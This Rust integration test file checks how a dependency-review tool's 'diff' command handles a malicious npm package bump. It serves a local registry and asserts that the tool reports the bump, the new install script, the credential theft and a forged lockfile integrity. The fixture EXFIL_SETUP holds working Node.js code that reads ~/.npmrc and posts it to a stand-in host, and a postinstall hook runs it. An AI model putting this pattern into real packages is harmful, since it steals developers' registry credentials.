//! `diligence diff` end to end: a git repository with two commits in a temp folder, tarballs
//! served by a registry on 127.0.0.1 (tiny_http), and the binary run on it.
//!
//! Base: a project locking `colorize-text@1.0.0`, `str-helper@2.0.0` and `old-dep@1.0.0`.
//! Head: `colorize-text` bumped to 1.0.1, whose tarball adds a `postinstall` that reads
//! `~/.npmrc` and posts it out, plus an unrelated edit of `str-helper`'s `integrity`.

use base64::Engine;
use serde_json::{Value, json};
use sha2::Digest;
use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const CLEAN_INDEX: &str =
    "module.exports = function colorize(s) { return '\\u001b[31m' + s + '\\u001b[0m'; };\n";

const EXFIL_SETUP: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collect.example.net', path: '/u', method: 'POST' });
req.write(npmrc);
req.end();
"#;

/// A gzip tarball with `package/<path>` entries.
fn tarball(files: &[(&str, &str)]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut builder = tar::Builder::new(gz);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(499_162_500);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn sri(bytes: &[u8]) -> String {
    let digest = sha2::Sha512::digest(bytes);
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

fn shasum(bytes: &[u8]) -> String {
    let digest = sha1::Sha1::digest(bytes);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

fn package_json(name: &str, version: &str, scripts: Value) -> String {
    let manifest =
        json!({"name": name, "version": version, "main": "index.js", "scripts": scripts});
    serde_json::to_string_pretty(&manifest).unwrap()
}

struct Version {
    name: &'static str,
    version: &'static str,
    tgz: Vec<u8>,
}

impl Version {
    fn new(
        name: &'static str,
        version: &'static str,
        extra: &[(&str, &str)],
        scripts: Value,
    ) -> Version {
        let manifest = package_json(name, version, scripts);
        let mut files = vec![
            ("package.json", manifest.as_str()),
            ("index.js", CLEAN_INDEX),
        ];
        files.extend_from_slice(extra);
        Version {
            name,
            version,
            tgz: tarball(&files),
        }
    }
    fn url(&self) -> String {
        format!(
            "https://registry.npmjs.org/{0}/-/{0}-{1}.tgz",
            self.name, self.version
        )
    }
}

/// Serves packuments at `/<name>` and tarballs at `/<name>/-/<name>-<version>.tgz`.
fn serve(versions: &[&Version]) -> String {
    let server = tiny_http::Server::http("127.0.0.1:0").expect("bind");
    let base = format!("http://{}/", server.server_addr().to_ip().expect("ip"));
    let mut routes: HashMap<String, Vec<u8>> = HashMap::new();
    let mut packuments: HashMap<&str, Value> = HashMap::new();
    for v in versions {
        routes.insert(
            format!("/{0}/-/{0}-{1}.tgz", v.name, v.version),
            v.tgz.clone(),
        );
        let doc = packuments.entry(v.name).or_insert_with(
            || json!({"name": v.name, "dist-tags": {}, "versions": {}, "time": {}}),
        );
        doc["dist-tags"]["latest"] = json!(v.version);
        doc["versions"][v.version] = json!({
            "name": v.name,
            "version": v.version,
            "dist": {"tarball": v.url(), "integrity": sri(&v.tgz), "shasum": shasum(&v.tgz)},
        });
        doc["time"][v.version] = json!("2026-01-01T00:00:00.000Z");
    }
    for (name, doc) in packuments {
        routes.insert(format!("/{name}"), serde_json::to_vec(&doc).unwrap());
    }
    std::thread::spawn(move || {
        for request in server.incoming_requests() {
            let response = match routes.get(request.url()) {
                Some(body) => tiny_http::Response::from_data(body.clone()),
                None => tiny_http::Response::from_data(b"{\"error\":\"Not found\"}".to_vec())
                    .with_status_code(404),
            };
            let _ = request.respond(response);
        }
    });
    base
}

fn entry(v: &Version, integrity: &str) -> Value {
    json!({"version": v.version, "resolved": v.url(), "integrity": integrity})
}

fn lockfile(entries: &[(&Version, String)]) -> String {
    let mut packages = serde_json::Map::new();
    let mut deps = serde_json::Map::new();
    for (v, _) in entries {
        deps.insert(v.name.into(), json!(format!("^{}", v.version)));
    }
    packages.insert(
        "".into(),
        json!({"name": "demo-app", "version": "1.0.0", "dependencies": deps}),
    );
    for (v, integrity) in entries {
        packages.insert(format!("node_modules/{}", v.name), entry(v, integrity));
    }
    let doc = json!({"name": "demo-app", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": packages});
    serde_json::to_string_pretty(&doc).unwrap() + "\n"
}

fn manifest(entries: &[(&Version, String)]) -> String {
    let deps: serde_json::Map<String, Value> = entries
        .iter()
        .map(|(v, _)| (v.name.to_string(), json!(format!("^{}", v.version))))
        .collect();
    serde_json::to_string_pretty(
        &json!({"name": "demo-app", "version": "1.0.0", "dependencies": deps}),
    )
    .unwrap()
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn commit(dir: &Path, entries: &[(&Version, String)], message: &str) {
    std::fs::write(dir.join("package-lock.json"), lockfile(entries)).unwrap();
    std::fs::write(dir.join("package.json"), manifest(entries)).unwrap();
    git(dir, &["add", "package.json", "package-lock.json", ".npmrc"]);
    git(dir, &["commit", "-q", "--allow-empty", "-m", message]);
}

struct Fixture {
    _tmp: tempfile::TempDir,
    repo: PathBuf,
    home: PathBuf,
    cache: PathBuf,
}

impl Fixture {
    fn new(registry: &str) -> Fixture {
        let tmp = tempfile::tempdir().unwrap();
        let repo = tmp.path().join("repo");
        let home = tmp.path().join("home");
        let cache = tmp.path().join("cache");
        for d in [&repo, &home, &cache] {
            std::fs::create_dir_all(d).unwrap();
        }
        git(&repo, &["init", "-q", "-b", "main"]);
        git(&repo, &["config", "user.email", "dev@example.invalid"]);
        git(&repo, &["config", "user.name", "Dev"]);
        git(&repo, &["config", "commit.gpgsign", "false"]);
        std::fs::write(repo.join(".npmrc"), format!("registry={registry}\n")).unwrap();
        Fixture {
            _tmp: tmp,
            repo,
            home,
            cache,
        }
    }

    fn diligence(&self, args: &[&str]) -> (i32, String, String) {
        let out = assert_cmd::Command::cargo_bin("diligence")
            .unwrap()
            .current_dir(&self.repo)
            .env("HOME", &self.home)
            .env("npm_config_userconfig", self.home.join(".npmrc"))
            .env("DILIGENCE_CACHE_DIR", &self.cache)
            .env("NO_COLOR", "1")
            .args(args)
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

struct World {
    colorize_old: Version,
    colorize_new: Version,
    str_helper: Version,
    old_dep: Version,
}

fn world() -> World {
    World {
        colorize_old: Version::new(
            "colorize-text",
            "1.0.0",
            &[],
            json!({"test": "node test.js"}),
        ),
        colorize_new: Version::new(
            "colorize-text",
            "1.0.1",
            &[("setup.js", EXFIL_SETUP)],
            json!({"test": "node test.js", "postinstall": "node setup.js"}),
        ),
        str_helper: Version::new("str-helper", "2.0.0", &[], json!({})),
        old_dep: Version::new("old-dep", "1.0.0", &[], json!({})),
    }
}

/// (rule, package, severity) of every finding, sorted.
fn summary(report: &Value) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let pkg = format!(
                "{}@{}",
                f["package"]["name"].as_str().unwrap_or(""),
                f["package"]["version"].as_str().unwrap_or("")
            );
            (
                f["rule"].as_str().unwrap().to_string(),
                pkg,
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

/// The two-commit repository of the main scenario; returns it and the forged integrity.
fn bump_fixture() -> (Fixture, String) {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.colorize_new, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    let forged = sri(b"some other bytes entirely");
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "base",
    );
    commit(
        &fx.repo,
        &[
            (&w.colorize_new, sri(&w.colorize_new.tgz)),
            (&w.str_helper, forged.clone()),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "bump colorize-text",
    );
    (fx, forged)
}

#[test]
fn bump_with_exfiltrating_postinstall_and_integrity_edit() {
    let (fx, forged) = bump_fixture();
    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["schema"], "diligence.report/1");
    assert_eq!(report["not_evaluated"], json!([]));

    let findings = report["findings"].as_array().unwrap();
    // Exactly the two lockfile changes.
    let changes: Vec<_> = findings
        .iter()
        .filter(|f| {
            matches!(
                f["rule"].as_str(),
                Some(
                    "diff/version-changed"
                        | "diff/integrity-changed"
                        | "diff/package-added"
                        | "diff/package-removed"
                )
            )
        })
        .collect();
    assert_eq!(changes.len(), 2, "{changes:#?}");
    let bump = changes
        .iter()
        .find(|f| f["rule"] == "diff/version-changed")
        .unwrap();
    assert_eq!(
        bump["package"],
        json!({"name": "colorize-text", "version": "1.0.1"})
    );
    assert_eq!(bump["evidence"]["change"], "1.0.0 → 1.0.1");
    assert_eq!(bump["evidence"]["direction"], "up");
    assert_eq!(bump["evidence"]["path"], json!(["colorize-text@1.0.1"]));
    assert_eq!(
        bump["location"],
        json!({"file": "package-lock.json", "line": 14})
    );
    assert_eq!(
        bump["evidence"]["files"]["files_added"],
        json!(["setup.js"])
    );
    let growth = package_json(
        "colorize-text",
        "1.0.1",
        json!({"test": "node test.js", "postinstall": "node setup.js"}),
    )
    .len()
        - package_json("colorize-text", "1.0.0", json!({"test": "node test.js"})).len();
    assert_eq!(
        bump["evidence"]["files"]["bytes_added"],
        json!(EXFIL_SETUP.len() + growth)
    );
    assert_eq!(bump["evidence"]["files"]["files_changed"], json!(1));
    assert_eq!(
        bump["evidence"]["files"]["new_lifecycle_scripts"],
        json!([{"name": "postinstall", "command": "node setup.js"}])
    );
    let edit = changes
        .iter()
        .find(|f| f["rule"] == "diff/integrity-changed")
        .unwrap();
    assert_eq!(
        edit["package"],
        json!({"name": "str-helper", "version": "2.0.0"})
    );
    assert_eq!(edit["severity"], "high");
    assert_eq!(
        edit["location"],
        json!({"file": "package-lock.json", "line": 25})
    );
    assert_eq!(edit["evidence"]["new_integrity"], json!(forged));

    // The new code findings sit on the bumped package's new version, in its new files.
    let code_findings: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("code/"))
        .collect();
    assert!(!code_findings.is_empty(), "{stdout}");
    for f in &code_findings {
        assert_eq!(
            f["package"],
            json!({"name": "colorize-text", "version": "1.0.1"})
        );
        assert!(
            matches!(
                f["location"]["file"].as_str(),
                Some("setup.js" | "package.json")
            ),
            "{f:#}"
        );
    }
    // Exactly these findings: the two changes, the new lifecycle script, and the scanner's
    // findings on the new file (credential theft at the `.npmrc` read) and the new script.
    // Code severities are the analyser's call; the rule, package and line are asserted.
    let rows: Vec<(String, String, String)> = summary(&report)
        .into_iter()
        .map(|(r, p, s)| {
            let s = if r.starts_with("code/") {
                String::new()
            } else {
                s
            };
            (r, p, s)
        })
        .collect();
    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
    assert_eq!(
        rows,
        [
            row("code/credential-theft", "colorize-text@1.0.1", ""),
            row("code/install-script", "colorize-text@1.0.1", ""),
            row("diff/integrity-changed", "str-helper@2.0.0", "high"),
            row("diff/new-lifecycle-script", "colorize-text@1.0.1", "medium"),
            row("diff/version-changed", "colorize-text@1.0.1", "info"),
            // The same registry cross-check `audit` runs: the edited integrity is not the
            // registry's for str-helper 2.0.0.
            row(
                "registry/integrity-mismatch",
                "str-helper@2.0.0",
                "critical"
            ),
        ]
    );
    let theft = code_findings
        .iter()
        .find(|f| f["rule"] == "code/credential-theft")
        .unwrap();
    assert_eq!(theft["location"], json!({"file": "setup.js", "line": 6}));
    assert!(matches!(
        theft["severity"].as_str(),
        Some("medium" | "high" | "critical")
    ));
    // Nothing about packages the PR did not touch.
    assert!(findings.iter().all(|f| f["package"]["name"] != "old-dep"));

    // Explicit revisions give the same answer; SARIF validates; Markdown is a comment.
    let (code2, sarif, stderr) = fx.diligence(&[
        "diff",
        "HEAD~1",
        "HEAD",
        "--no-advisories",
        "--format",
        "sarif",
    ]);
    assert_eq!(code2, 1, "{stderr}");
    let sarif: Value = serde_json::from_str(&sarif).unwrap();
    let schema_path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../diligence-report/tests/data/sarif-2.1.0.json");
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(schema_path).unwrap()).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(
        sarif["runs"][0]["results"].as_array().unwrap().len(),
        findings.len()
    );
    let out_file = fx.home.join("comment.md");
    let (code3, _, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--format",
        "markdown",
        "--output",
        out_file.to_str().unwrap(),
    ]);
    assert_eq!(code3, 1, "{stderr}");
    let md = std::fs::read_to_string(&out_file).unwrap();
    assert!(md.starts_with("**diligence: ❌"), "{md}");
    assert!(
        md.contains("| `colorize-text@1.0.1` | 1.0.0 → 1.0.1 |"),
        "{md}"
    );
    assert!(
        md.contains("<details><summary><code>str-helper@2.0.0</code>"),
        "{md}"
    );

    // The JSON validates against our own schema.
    let ours: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../schema/diligence.report-1.schema.json"),
        )
        .unwrap(),
    )
    .unwrap();
    assert!(jsonschema::validator_for(&ours).unwrap().is_valid(&report));
}

#[test]
fn a_head_that_only_removes_a_package_exits_0() {
    let w = world();
    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
    let fx = Fixture::new(&registry);
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
            (&w.old_dep, sri(&w.old_dep.tgz)),
        ],
        "base",
    );
    commit(
        &fx.repo,
        &[
            (&w.colorize_old, sri(&w.colorize_old.tgz)),
            (&w.str_helper, sri(&w.str_helper.tgz)),
        ],
        "drop old-dep",
    );
    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
    assert_eq!(code, 0, "stderr: {stderr}\nstdout: {stdout}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "diff/package-removed".to_string(),
            "old-dep@1.0.0".to_string(),
            "info".to_string()
        )]
    );
    assert_eq!(
        report["findings"][0]["location"],
        json!({"file": "package-lock.json", "line": 19})
    );
}

#[test]
fn policy_errors_exit_2_with_file_and_line() {
    let w = world();
    let registry = serve(&[&w.colorize_old]);
    let fx = Fixture::new(&registry);
    commit(
        &fx.repo,
        &[(&w.colorize_old, sri(&w.colorize_old.tgz))],
        "base",
    );
    commit(
        &fx.repo,
        &[(&w.colorize_old, sri(&w.colorize_old.tgz))],
        "same",
    );
    for (text, expected) in [
        (
            "fail-on = \"high\"\nfailon = 1\n",
            "diligence.toml:2:1: unknown field `failon`",
        ),
        (
            "[[ignore]]\npackage = \"a@1.0.0\"\nrule = \"code/x\"\nreason = \"r\"\nexpires = 2026-13-01\n",
            "diligence.toml:5:",
        ),
        (
            "[rules.\"code/x\"]\nseverity = \"severe\"\n",
            "diligence.toml:2:12: unknown severity `severe`",
        ),
        (
            "fail-on = \"high\"\n[rules.\"no/such-rule\"]\ndisabled = true\n",
            "diligence.toml:2:8: unknown rule id `no/such-rule`",
        ),
        (
            "[[ignore]]\npackage = \"a@1.0.0\"\nrule = \"no/such\"\nreason = \"r\"\n",
            "diligence.toml:3:8: unknown rule id `no/such`",
        ),
    ] {
        std::fs::write(fx.repo.join("diligence.toml"), text).unwrap();
        let (code, _, stderr) = fx.diligence(&["diff", "--no-advisories", "--no-registry"]);
        assert_eq!(code, 2, "{stderr}");
        assert!(
            stderr.starts_with("error: ") && stderr.contains(expected),
            "{stderr}"
        );
        assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    }
    // A missing --config file: one line, the OS error once.
    let (code, _, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--config",
        "missing.toml",
    ]);
    assert_eq!(code, 2, "{stderr}");
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    assert!(
        stderr.starts_with("error: missing.toml: cannot read: "),
        "{stderr}"
    );
    assert_eq!(stderr.matches("os error").count(), 1, "{stderr}");
    // An ignore pinned to a package that no longer matches is reported stale; a valid file
    // runs.
    std::fs::write(
        fx.repo.join("diligence.toml"),
        "[[ignore]]\npackage = \"colorize-text@0.9.0\"\nrule = \"diff/version-changed\"\nreason = \"old review\"\n",
    )
    .unwrap();
    let (code, stdout, stderr) = fx.diligence(&[
        "diff",
        "--no-advisories",
        "--no-registry",
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(
        summary(&report),
        [(
            "policy/stale-ignore".to_string(),
            "colorize-text@0.9.0".to_string(),
            "info".to_string()
        )]
    );
}

#[test]
fn metadata_rules_run_on_the_new_version() {
    let (fx, _) = bump_fixture();
    let (code, stdout, stderr) =
        fx.diligence(&["diff", "--no-advisories", "--metadata", "--format", "json"]);
    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("{stderr}"));
    // The fixture registry serves no _npmUser/maintainers/license/repository: the rules that
    // need them are not evaluated (listed, fail closed), the others report on the new version;
    // the high findings of the bump decide the exit code (1 wins over 2).
    assert_eq!(code, 1, "{stderr}");
    assert!(
        !report["not_evaluated"].as_array().unwrap().is_empty(),
        "{report}"
    );
    let metadata: Vec<(String, String, String)> = summary(&report)
        .into_iter()
        .filter(|(r, _, _)| r.starts_with("metadata/"))
        .collect();
    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
    // Every changed entry is vetted (the bump and the integrity edit), and the fixture
    // registry's version document lacks the `postinstall` the 1.0.1 tarball has: manifest
    // confusion, compared from the full packument.
    assert_eq!(
        metadata,
        [
            row("metadata/manifest-confusion", "colorize-text@1.0.1", "high"),
            row("metadata/no-license", "colorize-text@1.0.1", "info"),
            row("metadata/no-license", "str-helper@2.0.0", "info"),
            row("metadata/no-repository", "colorize-text@1.0.1", "info"),
            row("metadata/no-repository", "str-helper@2.0.0", "info"),
        ]
    );
    let what: Vec<&str> = report["not_evaluated"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["what"].as_str().unwrap())
        .collect();
    assert_eq!(
        what,
        [
            "metadata/deprecated of colorize-text@1.0.1",
            "metadata/deprecated of str-helper@2.0.0",
            "metadata/maintainers-changed of colorize-text@1.0.1",
            "metadata/maintainers-changed of str-helper@2.0.0",
            "metadata/new-publisher of colorize-text@1.0.1",
            "metadata/new-publisher of str-helper@2.0.0",
        ]
    );
    let license = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "metadata/no-license")
        .unwrap();
    assert_eq!(
        license["location"],
        json!({"file": "package-lock.json", "line": 14})
    );
}
